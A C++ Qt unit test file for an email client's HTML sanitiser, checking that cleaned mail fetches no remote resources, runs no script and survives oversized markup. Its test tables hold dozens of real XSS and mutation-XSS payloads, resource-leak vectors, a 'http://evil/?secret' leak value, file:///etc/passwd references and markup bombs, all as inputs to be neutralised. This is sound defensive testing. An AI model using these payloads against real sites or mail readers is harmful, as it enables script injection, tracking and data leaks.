// SPDX-FileCopyrightText: The Postacı authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "core/mime/htmlcleaner.h"
#include "core/mime/htmltotext.h"
#include "tests/mime/htmllint.h"
#include "tests/support/processortime.h"

#include <QRandomGenerator>
#include <QRegularExpression>
#include <QTest>
#include <QTextBrowser>

using namespace postaci;
using namespace Qt::StringLiterals;

namespace {

/// What the ui does with the result; remembers what it was asked to load.
class Browser : public QTextBrowser {
public:
    QStringList requests;

    void show(const QString &html)
    {
        setHtml(html);
        document()->setTextWidth(700);
        (void)document()->size();
    }

protected:
    QVariant loadResource(int, const QUrl &name) override
    {
        requests.append(name.toString());
        return {};
    }
};

int tableDepth(const QString &html)
{
    int depth = 0;
    int deepest = 0;
    static const QRegularExpression tag(u"<(/?)table"_s);
    for (auto tags = tag.globalMatch(html); tags.hasNext();) {
        depth += tags.next().captured(1).isEmpty() ? 1 : -1;
        deepest = std::max(deepest, depth);
    }
    return deepest;
}

} // namespace

class HtmlCleanerTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void rewrites_data();
    void rewrites();
    void links_data();
    void links();
    void nothingIsFetched_data();
    void nothingIsFetched();
    void nothingRuns_data();
    void nothingRuns();
    void knownPicturesAreShown();
    void coloursStayReadable_data();
    void coloursStayReadable();
    void hiddenTextStaysHidden_data();
    void hiddenTextStaysHidden();
    void quotesHaveABar();
    void partsAreClosedBeforeTheNext();
    void bombs_data();
    void bombs();
    void randomMarkupIsWellFormed();
    void text_data();
    void text();
};

void HtmlCleanerTest::rewrites_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("expected");
    const auto row
        = [](const char *tag, const QString &html, const QString &expected) { QTest::newRow(tag) << html << expected; };
    row("empty", u""_s, u""_s);
    row("text", u"a < b & c > d \"e\""_s, u"a &lt; b &amp; c &gt; d &quot;e&quot;"_s);
    row("Turkish", u"<p>ığüşöç İ"_s, u"<p>ığüşöç İ</p>"_s);
    row("known elements", u"<p><b>a</b> <em>b</em> <u>c</u></p>"_s, u"<p><b>a</b> <i>b</i> <u>c</u></p>"_s);
    row("unknown elements lose their tags", u"<o:p>a</o:p><blink>b</blink><custom-x>c</custom-x>"_s, u"abc"_s);
    row("headings and lists", u"<h1>a</h1><ol start=3><li>b<li>c</ol>"_s,
        u"<h1>a</h1><ol start=\"3\"><li>b</li><li>c</li></ol>"_s);
    row("unclosed", u"<div><p><b>a"_s, u"<div><p><b>a</b></p></div>"_s);
    row("wrong nesting", u"<b><i>a</b>b</i>"_s, u"<b><i>a</i></b><i>b</i>"_s);
    row("head goes", u"<html><head><title>t</title><style>x</style><meta charset=x></head><body>a</body></html>"_s,
        u"a"_s);
    row("link in the body swallows nothing", u"a<link rel=stylesheet href=x><p>b</p>"_s, u"a<p>b</p>"_s);
    row("comments go", u"a<!-- b -->c<!--[if mso]>d<![endif]--><![if !mso]>e<![endif]>"_s, u"ace"_s);
    row("processing instruction", u"<?xml version=1?>a"_s, u"a"_s);
    row("scripts go with their text", u"a<script>b</script>c<style>d</style>"_s, u"ac"_s);
    row("forms lose their fields",
        u"<form action=http://x><input value=a><button>b</button><select><option>c</select></form>"_s,
        u"<span>b</span>"_s);
    row("attributes", u"<p class=x id=y onclick=z title=t align=CENTER dir=rtl>a</p>"_s,
        u"<p align=\"center\" dir=\"rtl\">a</p>"_s);
    row("bad attribute values", u"<p align=\"center&quot;><script>\" dir=up>a</p>"_s, u"<p>a</p>"_s);
    row("table", u"<table border=1 cellpadding=4 width='100%'><tr><th colspan=2>a<td width=50>b</table>"_s,
        u"<table border=\"1\" cellpadding=\"4\" width=\"100%\"><tr><th colspan=\"2\">a</th><td width=\"50\">b</td></tr></table>"_s);
    row("spans are bounded", u"<table><tr><td colspan=99999 rowspan=-1>a</table>"_s,
        u"<table><tr><td colspan=\"50\">a</td></tr></table>"_s);
    row("styles", u"<span style='FONT-WEIGHT: bold; color:#F00; font-size:18pt; position:fixed; top:0'>a</span>"_s,
        u"<span style=\"font-weight:bold;font-size:24px;color:#ff0000;\">a</span>"_s);
    row("font", u"<font color=blue face=x size=7>a</font>"_s, u"<span style=\"color:#0000ff;\">a</span>"_s);
    row("margins", u"<p style='margin:0cm;margin-left:36.0pt'>a</p>"_s,
        u"<p style=\"margin-top:0px;margin-right:0px;margin-bottom:0px;margin-left:0px;margin-left:48px;\">a</p>"_s);
    row("margins are bounded", u"<p style='margin:-100px 9999px'>a</p>"_s,
        u"<p style=\"margin-top:0px;margin-right:64px;margin-bottom:0px;margin-left:64px;\">a</p>"_s);
    row("sizes are bounded", u"<span style='font-size:500px'>a</span><span style='font-size:2px'>b</span>"_s,
        u"<span style=\"font-size:40px;\">a</span><span style=\"font-size:9px;\">b</span>"_s);
    row("cells", u"<table><tr><td style='padding:4px 8px;border-bottom:1px solid #ccc;text-align:right'>a</table>"_s,
        u"<table><tr><td style=\"padding-top:4px;padding-right:8px;padding-bottom:4px;padding-left:8px;border-bottom:1px solid #cccccc;text-align:right;\">a</td></tr></table>"_s);
    row("Outlook paragraph", u"<p class=MsoNormal>a</p>"_s, u"<p style=\"margin-top:0px;margin-bottom:0px;\">a</p>"_s);
    row("style cannot break out", u"<p style='color:red\"><b>;font-weight:bold\";'>a</p>"_s, u"<p>a</p>"_s);
    row("style with a comment and escapes", u"<p style='/**/col\\6fr:red;text-align:left/**/'>a</p>"_s, u"<p>a</p>"_s);
    row("unknown picture becomes its text",
        u"<img src=cid:x alt='a <b>'><img src=data:image/png;base64,AA alt=c><img src=x>"_s, u"[a &lt;b&gt;][c]"_s);
    row("code keeps its font", u"<span style='font-family:Courier New, monospace'>a</span><code>b</code>"_s,
        u"<span style=\"font-family:monospace;\">a</span><code>b</code>"_s);
    row("preformatted", u"<pre>\n a\n  b</pre>"_s, u"<pre> a\n  b</pre>"_s);
    row("svg and math go", u"a<svg><text>b</text><script>c</script></svg><math><mi>d</mi></math>e"_s, u"ae"_s);
    row("template goes", u"a<template><p>b</p></template>"_s, u"a"_s);
    row("frameset", u"<frameset><frame src=http://x></frameset>"_s, u""_s);
    row("plaintext", u"<plaintext><b>a"_s, u"<pre>&lt;b&gt;a</pre>"_s);
}

void HtmlCleanerTest::rewrites()
{
    QFETCH(QString, html);
    QFETCH(QString, expected);
    const CleanHtml clean = cleanHtml(html);
    QCOMPARE(clean.html, expected);
    QCOMPARE(lintCleanHtml(clean.html), QString());
    QVERIFY(!clean.flattened);
    // Cleaning what is clean changes nothing that counts.
    QCOMPARE(lintCleanHtml(cleanHtml(clean.html).html), QString());
}

// R15
void HtmlCleanerTest::links_data()
{
    QTest::addColumn<QString>("href");
    QTest::addColumn<QString>("expected");
    const auto row
        = [](const QString &href, const QString &expected) { QTest::newRow(qPrintable(href)) << href << expected; };
    row(u"https://example.com/a?b=c&d=e#f"_s, u"https://example.com/a?b=c&amp;d=e#f"_s);
    row(u"HTTP://Example.COM"_s, u"http://example.com"_s);
    row(u" https://example.com/ "_s, u"https://example.com/"_s);
    row(u"mailto:a@b.tr?subject=x"_s, u"mailto:a@b.tr?subject=x"_s);
    row(u"tel:+905551112233"_s, u"tel:+905551112233"_s);
    row(u"https://çiçek.com.tr/ş"_s, u"https://xn--iek-1lab.com.tr/%C5%9F"_s);
    row(u"https://user:pass@example.com/"_s, u"https://user:pass@example.com/"_s);
    row(u"https://example.com/a b\"c<d>"_s, u"https://example.com/a%20b%22c%3Cd%3E"_s);
    for (const char16_t *bad : {u"javascript:alert(1)", u"JaVaScRiPt:alert(1)", u"java\nscript:alert(1)",
             u"\tjavascript:alert(1)", u"java&#9;script:alert(1)", u"\u0001javascript:alert(1)", u"data:text/html,x",
             u"vbscript:x", u"file:///etc/passwd", u"cid:x", u"about:blank", u"ftp://example.com/", u"//example.com/",
             u"/relative", u"relative", u"#top", u"", u"http:", u"http://", u"http:///x", u"https://exa mple.com/",
             u"mailto:", u"x-custom:abc", u"blob:https://x/y", u"smb://x/y", u"\\\\server\\share", u"intent://x",
             u"view-source:http://x"})
        row(QString::fromUtf16(bad), QString());
}

void HtmlCleanerTest::links()
{
    QFETCH(QString, href);
    QFETCH(QString, expected);
    const QString html = u"<a target=_blank href=\""_s + QString(href).replace(u'"', "&quot;"_L1) + u"\">x</a>"_s;
    const QString wanted = expected.isEmpty() ? u"<span>x</span>"_s : u"<a href=\""_s + expected + u"\">x</a>"_s;
    QCOMPARE(cleanHtml(html).html, wanted);
    QVERIFY(!cleanHtml(u"<area href=\""_s + href + u"\"><map><form action=\""_s + href + u"\">x</form>"_s)
            .html.contains("href"_L1));
}

// R01, after the list of HTTPLeaks: every place that HTML and CSS can name a resource in.
void HtmlCleanerTest::nothingIsFetched_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<int>("counted");
    int number = 0;
    const auto row = [&number](const QString &html, int counted = 0) {
        QTest::addRow("%d %.60s", number++, qPrintable(html)) << html << counted;
    };
    row(u"<img src=http://leak/>"_s, 1);
    row(u"<img src=HTTPS://leak/>"_s, 1);
    row(u"<img src=//leak/>"_s, 1);
    row(u"<img src=' http://leak/'>"_s, 1);
    row(u"<img src='ht\ntp://leak/'>"_s);
    row(u"<img srcset='http://leak/ 2x'>"_s, 1);
    row(u"<img dynsrc=http://leak/ lowsrc=http://leak/>"_s);
    row(u"<image src=http://leak/>"_s, 1);
    row(u"<body background=http://leak/>"_s, 1);
    row(u"<table background=http://leak/><tr background=http://leak/><td background=http://leak/>x</table>"_s, 3);
    row(u"<p style='background:url(http://leak/)'>x</p>"_s, 1);
    row(u"<p style='background-image:url(\"http://leak/\")'>x</p>"_s, 1);
    row(u"<p style='BACKGROUND : URL(//leak/)'>x</p>"_s, 1);
    row(u"<p style='background:u\\72l(http://leak/)'>x</p>"_s);
    row(u"<p style='list-style:url(http://leak/);cursor:url(http://leak/),auto;content:url(http://leak/)'>x</p>"_s, 3);
    row(u"<p style='background:image-set(\"http://leak/\" 1x)'>x</p>"_s);
    row(u"<p style='behavior:url(x.htc);-moz-binding:url(http://leak/)'>x</p>"_s, 1);
    row(u"<p style='width:expression(alert(1))'>x</p>"_s);
    row(u"<style>@import url(http://leak/);p{background:url(http://leak/)}@font-face{src:url(http://leak/)}</style><p>x"_s);
    for (const char16_t *rest : {u"<link rel=stylesheet href=http://leak/>", u"<link rel=preconnect href=http://leak/>",
             u"<link rel=dns-prefetch href=http://leak/>", u"<link rel=icon href=http://leak/>",
             u"<link rel=prefetch href=http://leak/>", u"<link rel=import href=http://leak/>",
             u"<meta http-equiv=refresh content='0;url=http://leak/'>", u"<meta http-equiv=set-cookie content=x>",
             u"<base href=http://leak/><img src=x>", u"<script src=http://leak/></script>",
             u"<iframe src=http://leak/></iframe>", u"<iframe srcdoc='<img src=http://leak/>'></iframe>",
             u"<frameset><frame src=http://leak/></frameset>", u"<object data=http://leak/></object>",
             u"<object><param name=src value=http://leak/></object>", u"<embed src=http://leak/>",
             u"<applet code=x archive=http://leak/></applet>", u"<video src=http://leak/ poster=http://leak/></video>",
             u"<audio src=http://leak/></audio>", u"<video><source src=http://leak/><track src=http://leak/></video>",
             u"<picture><source srcset=http://leak/></picture>", u"<input type=image src=http://leak/>",
             u"<form action=http://leak/><input type=submit formaction=http://leak/></form>",
             u"<button formaction=http://leak/>x</button>", u"<isindex action=http://leak/>",
             u"<svg><image href=http://leak/></svg>", u"<svg><image xlink:href=http://leak/></svg>",
             u"<svg><use href=http://leak/#x></svg>", u"<svg><style>@import 'http://leak/'</style></svg>",
             u"<svg><a xlink:href=http://leak/><text>x</text></a></svg>", u"<svg><feImage href=http://leak/></svg>",
             u"<svg><script href=http://leak/></script></svg>", u"<math href=http://leak/>x</math>",
             u"<math><mi xlink:href=http://leak/>x</mi></math>", u"<bgsound src=http://leak/>",
             u"<layer src=http://leak/></layer>", u"<xml src=http://leak/></xml>", u"<html manifest=http://leak/>",
             u"<head profile=http://leak/>", u"<ins cite=http://leak/>x</ins>", u"<del cite=http://leak/>x</del>",
             u"<a ping=http://leak/>x</a>", u"<details ontoggle=x open>x</details>", u"<menuitem icon=http://leak/>",
             u"<command icon=http://leak/>", u"<portal src=http://leak/></portal>",
             u"<img longdesc=http://leak/ usemap=#m>", u"<blockquote cite=http://leak/>x</blockquote>",
             u"<q cite=http://leak/>x</q>", u"<noscript><p title='</noscript><img src=x>'></noscript>",
             u"<template><link href=http://leak/></template>", u"<img src=file:///etc/passwd>",
             u"<img src=cid:unknown>", u"<img src=data:image/svg+xml,<svg/onload=x>>", u"<img src=qrc:/x.png>",
             u"<img src=/etc/passwd>", u"<img src=x.png>", u"<img src=':/icons/x'>"})
        row(QString::fromUtf16(rest));
}

void HtmlCleanerTest::nothingIsFetched()
{
    QFETCH(QString, html);
    QFETCH(int, counted);
    for (const QString &around :
        {u"%1"_s, u"<html><body>%1</body></html>"_s, u"<table><tr><td>%1"_s, u"<head>%1</head><p>y"_s}) {
        const CleanHtml clean = cleanHtml(around.arg(html));
        QCOMPARE(lintCleanHtml(clean.html), QString());
        QVERIFY2(!clean.html.contains("leak"_L1), qPrintable(clean.html));
        Browser browser;
        browser.show(clean.html);
        QCOMPARE(browser.requests, QStringList());
    }
    QCOMPARE(cleanHtml(html).blockedRemote, counted);
}

// R04, after the payloads that DOMPurify is tested with.
void HtmlCleanerTest::nothingRuns_data()
{
    QTest::addColumn<QString>("html");
    int number = 0;
    for (const char16_t *payload : {u"<img src=x onerror=alert(1)>", u"<svg/onload=alert(1)>",
             u"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
             u"<math></p><style><!--</style><img src/onerror=alert(1)>", u"<a href=\"javascript:alert(1)\">x</a>",
             u"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
             u"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
             u"<table><td background='javascript:alert(1)'>x", u"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
             u"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
             u"<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
             u"<![><img src=\"]><img src=x onerror=alert(1)//\">",
             u"<style><img src=\"</style><img src=x onerror=alert(1)//\">",
             u"<title><img src=\"</title><img src=x onerror=alert(1)>\">",
             u"<textarea><img src=\"</textarea><img src=x onerror=alert(1)>\">",
             u"<iframe src=\"javascript:alert(1)\"></iframe>", u"<iframe></iframe\n><img src=x onerror=alert(1)>",
             u"<script>alert(1)</script>", u"<SCRIPT SRC=//x></SCRIPT>", u"<scr<script>ipt>alert(1)</scr</script>ipt>",
             u"<script/src=x>", u"<script\x0csrc=x>", u"<<script>alert(1)//<</script>",
             u"<img \"\"\"><script>alert(1)</script>\">", u"<img src='x' style='behavior:url(x)'>",
             u"<b onmouseover=alert(1)>x</b>", u"<p style=\"x:expression(alert(1))\">x",
             u"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", u"<a href=\"&#x6A;avascript:alert(1)\">x</a>",
             u"<a href=\"java&Tab;script:alert(1)\">x</a>", u"<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
             u"<a xlink:href=\"javascript:alert(1)\">x</a>", u"<embed code=x allowscriptaccess=always>",
             u"<object classid=clsid:x><param name=url value=javascript:alert(1)></object>",
             u"<meta http-equiv=refresh content='0;javascript:alert(1)'>", u"<body onload=alert(1)>",
             u"<input autofocus onfocus=alert(1)>", u"<details open ontoggle=alert(1)>x",
             u"<marquee onstart=alert(1)>x</marquee>", u"<keygen autofocus onfocus=alert(1)>",
             u"<video><source onerror=alert(1)>", u"<div style=\"background:url('javascript:alert(1)')\">x",
             u"<div id=\"x\" style='\"><script>alert(1)</script>'>x", u"<p title='\"><script>alert(1)</script>'>x",
             u"<font color='\"><script>alert(1)</script>'>x", u"<td width='\"><script>'>x",
             u"<img width='1\" onerror=\"alert(1)' src=cid:a>", u"<a href='https://x/\"onmouseover=\"alert(1)'>x</a>",
             u"<a href='mailto:a\"><script>alert(1)</script>'>x</a>", u"\u0000<script>alert(1)</script>",
             u"<scr\u0000ipt>alert(1)</script>", u"<svg><foreignObject><body><img src=x onerror=alert(1)>",
             u"<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)>",
             u"<svg><desc><table><thead><s></table></s><table></table>",
             u"<select><template><img src=x onerror=alert(1)></template></select>",
             u"<plaintext><script>alert(1)</script>"})
        QTest::addRow("%d", number++) << QString::fromUtf16(payload);
}

void HtmlCleanerTest::nothingRuns()
{
    QFETCH(QString, html);
    const QString clean = cleanHtml(html, {.contentIds = {"a"}}).html;
    QCOMPARE(lintCleanHtml(clean), QString());
    // Once more through a parser: nothing comes to life by being read a second time.
    QCOMPARE(lintCleanHtml(cleanHtml(clean, {.contentIds = {"a"}}).html), QString());
}

void HtmlCleanerTest::knownPicturesAreShown()
{
    const HtmlCleanOptions options{.contentIds = {"p1@x", "a b%ş"}};
    const CleanHtml clean = cleanHtml(
        u"<img src=cid:p1@x width=20 height=99999><img src='CID:a%20b%25%C5%9F' alt=x onerror=y><img src=cid:p2@x alt=z>"_s,
        options);
    QCOMPARE(clean.html, u"<img src=\"cid:p1@x\" width=\"20\" height=\"2000\"><img src=\"cid:a%20b%25%C5%9F\">[z]"_s);
    QCOMPARE(clean.blockedRemote, 0);
    Browser browser;
    browser.show(clean.html);
    browser.requests.removeDuplicates();
    QCOMPARE(browser.requests.size(), 2);
    QVERIFY(browser.requests.join(u' ').count("cid:"_L1) == 2);
}

void HtmlCleanerTest::coloursStayReadable_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("expected");
    const auto row
        = [](const char *tag, const QString &html, const QString &expected) { QTest::newRow(tag) << html << expected; };
    row("colour", u"<p style='color:#336699'>a</p>"_s, u"<p style=\"color:#336699;\">a</p>"_s);
    row("short, rgb, name", u"<p style='color:#369'><b style='color: rgb( 255,0, 0 )'><i style='color:Navy'>a"_s,
        u"<p style=\"color:#336699;\"><b style=\"color:#ff0000;\"><i style=\"color:#000080;\">a</i></b></p>"_s);
    for (const char *value : {"inherit", "transparent", "initial", "unset", "currentcolor", "windowtext", "var(--x)",
             "rgba(0,0,0,0)", "#12", "#ggg", "nonsense", "url(x)", ""})
        row(value, u"<p style='background-color:%1;color:%1'>a</p>"_s.arg(QLatin1StringView(value)), u"<p>a</p>"_s);
    row("white on white", u"<p style='color:#fff'>a</p>"_s, u"<p>a</p>"_s);
    row("nearly white on white", u"<p style='color:#eee'>a</p>"_s, u"<p>a</p>"_s);
    row("white on a colour", u"<p style='color:#fff;background:#036'>a</p>"_s,
        u"<p style=\"background-color:#003366;color:#ffffff;\">a</p>"_s);
    row("white on the cell's colour", u"<table><tr><td bgcolor=#003366><b style='color:white'>a</table>"_s,
        u"<table><tr><td style=\"background-color:#003366;\"><b style=\"color:#ffffff;\">a</b></td></tr></table>"_s);
    row("white behind the cell", u"<table><tr><td bgcolor=#003366>a</table><b style='color:white'>b"_s,
        u"<table><tr><td style=\"background-color:#003366;\">a</td></tr></table><b>b</b>"_s);
    row("black on black", u"<p style='color:#000;background:black'>a</p>"_s,
        u"<p style=\"background-color:#000000;\">a</p>"_s);
}

void HtmlCleanerTest::coloursStayReadable()
{
    QFETCH(QString, html);
    QFETCH(QString, expected);
    QCOMPARE(cleanHtml(html).html, expected);
    QVERIFY(!cleanHtml(html, {.keepColors = false}).html.contains("color"_L1));
}

void HtmlCleanerTest::hiddenTextStaysHidden_data()
{
    QTest::addColumn<QString>("style");
    QTest::addColumn<bool>("hidden");
    for (const char16_t *style :
        {u"display:none", u"DISPLAY : none !important", u"color:red;display:none;", u"visibility:hidden",
            u"mso-hide:all", u"font-size:0", u"font-size:0px;", u"font-size:1px", u"max-height:0px", u"opacity:0"})
        QTest::newRow(qPrintable(QString::fromUtf16(style))) << QString::fromUtf16(style) << true;
    for (const char16_t *style : {u"display:block", u"font-size:10px", u"font-size:1.5em", u"max-height:0.5em",
             u"opacity:0.5", u"visibility:visible", u"max-height:100px"})
        QTest::newRow(qPrintable(QString::fromUtf16(style))) << QString::fromUtf16(style) << false;
}

void HtmlCleanerTest::hiddenTextStaysHidden()
{
    QFETCH(QString, style);
    QFETCH(bool, hidden);
    const QString html = u"<p>a</p><div style=\"%1\">b<p>c</p></div>"_s.arg(style);
    QCOMPARE(cleanHtml(html).html.contains(u'c'), !hidden);
    QCOMPARE(htmlToText(html).contains(u'c'), !hidden);
}

void HtmlCleanerTest::quotesHaveABar()
{
    const QString html = u"<blockquote type=cite><p>a</p><blockquote>b</blockquote></blockquote>"_s;
    const CleanHtml clean = cleanHtml(html, {.quoteBarColor = u"#123456"_s});
    QCOMPARE(clean.html.count("background-color:#123456"_L1), 2);
    QCOMPARE(tableDepth(clean.html), 2);
    QCOMPARE(lintCleanHtml(clean.html), QString());
    // Outlook on the web indents with it.
    QCOMPARE(cleanHtml(u"<blockquote style='margin:0 0 0 40px;border:none;padding:0px'>a</blockquote>"_s).html,
        u"<blockquote>a</blockquote>"_s);
    const QString deep = cleanHtml(u"<blockquote>a"_s.repeated(60)).html;
    QCOMPARE(tableDepth(deep), 8);
    QCOMPARE(lintCleanHtml(deep), QString());
}

// R06
void HtmlCleanerTest::partsAreClosedBeforeTheNext()
{
    const CleanHtml clean = cleanHtml({u"<b>a<img alt='x' src=\"http://evil/?"_s, u"secret"_s, u"\"><i>c"_s}, {});
    QCOMPARE(lintCleanHtml(clean.html), QString());
    QCOMPARE(clean.html, u"<b>a</b><hr>secret<hr>&quot;&gt;<i>c</i>"_s);
}

// R19: neither the cleaning nor the showing may take long.
void HtmlCleanerTest::bombs_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<bool>("flattened");
    const auto row
        = [](const char *tag, const QString &html, bool flattened) { QTest::newRow(tag) << html << flattened; };
    for (const char16_t *unit : {u"<div>", u"<table>", u"<table><tr><td>", u"<blockquote>", u"<b>", u"<font>",
             u"<ul><li>", u"<a href=http://x>", u"<span style='color:red'>", u"<p>", u"<svg>", u"<dl><dd>"}) {
        const QString text = QString::fromUtf16(unit);
        row(qPrintable(u"100,000 "_s + text), text.repeated(100'000), true);
        row(qPrintable(u"5,000 "_s + text), text.repeated(5000 / (text.count(u'<'))), false);
    }
    QString fonts = u"<p>"_s;
    for (int i = 0; i < 5000; ++i)
        fonts += u"<font color=%1>"_s.arg(i);
    row("formatting repeated in every paragraph", fonts + u"</p><p>x"_s.repeated(5000), true);
    QString attributes = u"<p"_s;
    for (int i = 0; i < 90'000; ++i)
        attributes += u" a%1"_s.arg(i);
    row("90,000 attributes", attributes + u">x"_s, true);
    row("2 MB of text", u"word "_s.repeated(400'000), true);
    row("900 kB of text", u"word "_s.repeated(180'000), false);
    row("900 kB of entities", u"&amp;"_s.repeated(180'000), false);
    row("one style of 900 kB", u"<p style='"_s + u"color:red;"_s.repeated(90'000) + u"'>x"_s, false);
    row("a table of 15,000 cells", u"<table><tr>"_s + u"<td>x"_s.repeated(15'000), false);
    row("a table of wide spans", u"<table>"_s + u"<tr><td colspan=50>x"_s.repeated(5000), false);
    row("2,000 tables in a row", u"<table><tr><td>x</table>"_s.repeated(2000), false);
    row("unclosed comment", u"<!--"_s + u"x"_s.repeated(500'000), false);
    row("half a million brackets", u"<"_s.repeated(500'000), false);
    row("tables in cells beside text", u"<table><tr><td>x</td><td>"_s.repeated(3000), false);
}

void HtmlCleanerTest::bombs()
{
    QFETCH(QString, html);
    QFETCH(bool, flattened);
    ProcessorTime timer;
    timer.start();
    const CleanHtml clean = cleanHtml(html);
    QVERIFY2(timer.elapsed() < 1000, qPrintable(QString::number(timer.elapsed())));
    QCOMPARE(clean.flattened, flattened);
    QCOMPARE(lintCleanHtml(clean.html), QString());
    QVERIFY(tableDepth(clean.html) <= 8);
    timer.start();
    const QString text = htmlToText(html);
    QVERIFY2(timer.elapsed() < 1000, qPrintable(QString::number(timer.elapsed())));
    QVERIFY(text.size() <= html.size() * 2);
    Browser browser;
    timer.start();
    browser.show(clean.html);
    QVERIFY2(timer.elapsed() < 3000, qPrintable(QString::number(timer.elapsed())));
}

// Whatever comes in, what goes out is well formed.
void HtmlCleanerTest::randomMarkupIsWellFormed()
{
    const QStringList pieces{u"<p>"_s, u"</p>"_s, u"<b>"_s, u"</b>"_s, u"<table>"_s, u"</table>"_s, u"<tr>"_s,
        u"<td>"_s, u"</td>"_s, u"<a href='http://x/?a&b'>"_s, u"</a>"_s, u"<img src=cid:a>"_s, u"<blockquote>"_s,
        u"</blockquote>"_s, u"<ul>"_s, u"<li>"_s, u"</ul>"_s, u"<style>"_s, u"</style>"_s, u"<!--"_s, u"-->"_s,
        u"text "_s, u"&lt;"_s, u"\""_s, u"<svg>"_s, u"</svg>"_s, u"<select>"_s, u"<form>"_s, u"<font color=red>"_s,
        u"</font>"_s, u"<"_s, u">"_s, u"<br>"_s, u"<math>"_s, u"<template>"_s, u"</template>"_s, u"<center>"_s,
        u"<h1 align='right'>"_s, u"<noscript>"_s, u"ığ"_s, u"\uFFFF"_s, u"<html>"_s, u"</body>"_s, u"<frameset>"_s};
    QRandomGenerator random(7);
    for (int i = 0; i < 5000; ++i) {
        QString html;
        for (int k = random.bounded(40); k > 0; --k)
            html += pieces[random.bounded(int(pieces.size()))];
        const QString wrong = lintCleanHtml(cleanHtml(html, {.contentIds = {"a"}}).html);
        QVERIFY2(wrong.isEmpty(), qPrintable(wrong + u" from "_s + html));
    }
}

void HtmlCleanerTest::text_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("expected");
    const auto row
        = [](const char *tag, const QString &html, const QString &expected) { QTest::newRow(tag) << html << expected; };
    row("empty", u""_s, u""_s);
    row("paragraphs", u"<p>a</p><p>b</p>"_s, u"a\n\nb"_s);
    row("divs", u"<div>a</div><div>b</div>"_s, u"a\nb"_s);
    row("breaks", u"a<br>b<br><br>c"_s, u"a\nb\n\nc"_s);
    row("white space", u"  a \n b\t<b> c</b>  d&nbsp; e"_s, u"a b c d  e"_s);
    row("empty blocks", u"<div><div><p></p></div></div><p>a</p><div></div>"_s, u"a"_s);
    row("list", u"<p>a</p><ul><li>b<li>c<ul><li>d</ul></ul><p>e"_s, u"a\n\n• b\n• c\n• d\n\ne"_s);
    row("numbers", u"<ol><li>a<li>b</ol>"_s, u"1. a\n2. b"_s);
    row("quote", u"<p>a</p><blockquote>b<br>c<blockquote>d</blockquote></blockquote><p>e</p>"_s,
        u"a\n\n> b\n> c\n>\n>> d\n\ne"_s);
    row("table", u"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"_s, u"a b\nc"_s);
    row("preformatted", u"<pre>\n a\n\n  b</pre>c"_s, u" a\n\n  b\n\nc"_s);
    row("entities", u"&lt;b&gt; &ccedil;&#x131;&#8378; &nonsense;"_s, u"<b> çı₺ &nonsense;"_s);
    row("unread parts", u"<head><title>t</title></head><style>s</style><script>x</script>a<svg>b</svg>"_s, u"a"_s);
    row("too many tags",
        u"<i></i>"_s.repeated(30'000)
            + u"<p>a &amp; b</p><style>s</style><script>t<p></script>c<br>d &lt;e<!-- f -->"_s,
        u"a & b\nc\nd <e"_s);
}

void HtmlCleanerTest::text()
{
    QFETCH(QString, html);
    QFETCH(QString, expected);
    QCOMPARE(htmlToText(html), expected);
}

QTEST_MAIN(HtmlCleanerTest)
#include "test_htmlcleaner.moc"
